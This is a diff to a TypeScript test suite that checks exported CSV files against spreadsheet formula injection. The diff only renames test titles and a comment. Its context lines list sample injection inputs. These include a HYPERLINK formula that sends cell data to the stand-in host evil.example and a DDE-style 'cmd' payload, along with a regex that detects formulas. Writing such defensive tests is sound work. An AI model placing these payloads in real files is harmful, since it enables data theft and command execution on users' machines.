@@ -48,7 +48,7 @@ const importInto = async (dataDir: string) => {
 
 let target: string
 
-/** What a customer may have written when refusing a bar. */
+/** Text that a customer may have written when refusing a bar. */
 const formulas = [
   ...['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1)', '\uff1d1+1'],
   ...["'=1", "''=1", 'a;=1+1', "a;'=1", 'a\n=2', '-5', 'plain'],
@@ -78,7 +78,7 @@ afterAll(async () => {
   if (server) await dropDatabase(server, basename(target))
 })
 
-test('no cell of the files is a formula to a spreadsheet', async () => {
+test('exported files contain no cell that a spreadsheet takes for a formula', async () => {
   const isNumber = /^-?\d+(\.\d+)?$/
   const isFormula = /^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]|[;|\t\r\n]\s*[=+\-@\uff1d\uff0b\uff0d\uff20]/
   const files = (await readdir(folder)).filter((name) => name.endsWith('.csv'))
@@ -92,7 +92,7 @@ test('no cell of the files is a formula to a spreadsheet', async () => {
   }
 })
 
-test('a text that looks like a formula comes back as it was written', async () => {
+test('text that looks like a formula is unchanged after export and import', async () => {
   const refusalsOf = async ({ rows }: Api) =>
     (await rows.ask('select refusal from bars where refusal is not null order by id')).map(({ refusal }) => refusal)
   expect(await refusalsOf(demo)).toEqual(expect.arrayContaining(formulas))
